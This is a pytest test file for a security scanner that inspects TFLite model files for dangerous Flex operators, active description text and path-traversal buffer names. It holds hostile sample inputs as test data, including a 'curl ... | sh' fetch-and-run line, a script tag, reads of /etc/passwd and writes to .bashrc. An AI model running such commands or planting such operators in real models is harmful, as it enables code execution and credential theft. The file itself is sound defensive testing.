"""TFLite models: operators of others, what Flex operators touch, and texts."""

from __future__ import annotations

import struct
from pathlib import Path

import pytest
from samples.recipes.tflite import RELU, STRING, Number, Table, builtin, custom, model, strings, tensor

from weighbridge.analyzers.inspection import Context, Event
from weighbridge.analyzers.tensorflow import tflite
from weighbridge.bytesource.memory import MemorySource
from weighbridge.core.artifact import Artifact
from weighbridge.core.finding import Finding
from weighbridge.core.limits import Budget, Limits
from weighbridge.errors import Malformed
from weighbridge.formats.tensorflow.tflite_layout import TfliteAnomaly
from weighbridge.knowledge.callables import CallableKnowledge

ROOT = Path(__file__).parents[2]
CONTEXT = Context(Budget(Limits()), CallableKnowledge.load(ROOT / "signatures" / "callables"))


def events(data: bytes) -> list[Event]:
    return list(tflite.inspect(Artifact(("m.tflite",), MemorySource(data)), CONTEXT))


def rules(data: bytes) -> list[str]:
    return [one.rule for one in events(data) if isinstance(one, Finding)]


def flex(op: str, path: str | None) -> bytes:
    """A model whose only operator is TensorFlow's, with a constant path or one from the caller."""
    buffer = b"" if path is None else strings(path)
    tensors = [tensor("path", [1], STRING, 1), tensor("y", [1], STRING)]
    return model(custom(op), tensors=tensors, buffers=({}, {0: buffer}))


@pytest.mark.parametrize(
    ("op", "path", "expected"),
    [
        ("FlexReadFile", "/etc/passwd", ["TFL002"]),
        ("FlexReadFile", "/home/user/notes.txt", ["TFL002"]),
        ("FlexReadFile", "notes.txt", ["TFL003"]),
        ("FlexReadFile", None, ["TFL003"]),
        ("FlexWriteFile", "out.txt", ["TFL002"]),
        ("FlexWriteFile", None, ["TFL002"]),
        ("FlexSaveV2", None, ["TFL003"]),
        ("FlexSaveV2", "/home/user/.bashrc", ["TFL002"]),
        ("FlexRestoreV2", None, ["TFL003"]),
        ("FlexPyFunc", None, ["TFL002"]),
        ("FlexRpcClient", None, ["TFL002"]),
        ("FlexTFRecordDataset", "a.tfrecord", ["TFL003"]),
        ("FlexPrintV2", None, []),
        ("FlexMatrixInverse", None, []),
        ("FlexWeighbridgeMarkerOp", None, ["TFL001"]),
        ("FlexSentencepieceOp", None, ["TFL007"]),
        ("ReadFile", "/etc/passwd", ["TFL007", "TFL002"]),
        ("WeighbridgeMarkerOp", None, ["TFL001"]),
        ("TFLite_Detection_PostProcess", None, ["TFL007"]),
        ("MatrixInverse", None, ["TFL007"]),
        ("", None, ["TFL001"]),
    ],
)
def test_an_operator_of_others_is_judged_by_what_it_touches(
    op: str, path: str | None, expected: list[str]
) -> None:
    assert rules(flex(op, path)) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("<script>1</script>", ["TFL008"]),
        ("curl https://example.invalid/x | sh", ["TFL008"]),
        ("MLIR Converted.", []),
        ("Trained on https://example.invalid, $5 a sample", []),
    ],
)
def test_a_description_is_told_when_it_is_active(text: str, expected: list[str]) -> None:
    assert rules(model(builtin(RELU), description=text)) == expected


@pytest.mark.parametrize(
    ("name", "expected"),
    [("../x", ["TFL009"]), ("/x", ["TFL009"]), ("c:x", ["TFL009"]), ("weights..bin", [])],
)
def test_a_file_of_buffers_stays_beside_the_model(name: str, expected: list[str]) -> None:
    assert rules(model(builtin(RELU), more={8: [{0: name}]})) == expected


def test_metadata_is_handed_on_when_it_begins_like_a_format() -> None:
    more: Table = {6: [{0: "a", 1: Number("I", 1)}, {0: "b", 1: Number("I", 2)}]}
    data = model(builtin(RELU), buffers=({}, {0: b"1.14.0"}, {0: b"\x7fELF" + bytes(60)}), more=more)
    nested = [one for one in events(data) if isinstance(one, Artifact)]
    assert [(one.name, one.source.size) for one in nested] == [("metadata-1", 64)]


def test_a_model_that_breaks_is_told_before_it_is_given_up() -> None:
    data = bytearray(model(custom("WeighbridgeMarkerOp")))
    struct.pack_into("<I", data, 0, 2**31)
    walk = tflite.inspect(Artifact(("m",), MemorySource(bytes(data))), CONTEXT)
    first = next(walk)
    assert isinstance(first, Finding)
    assert first.rule == "TFL006"
    with pytest.raises(Malformed):
        next(walk)


def test_every_anomaly_has_a_rule() -> None:
    assert tflite.RULES.keys() == set(TfliteAnomaly)
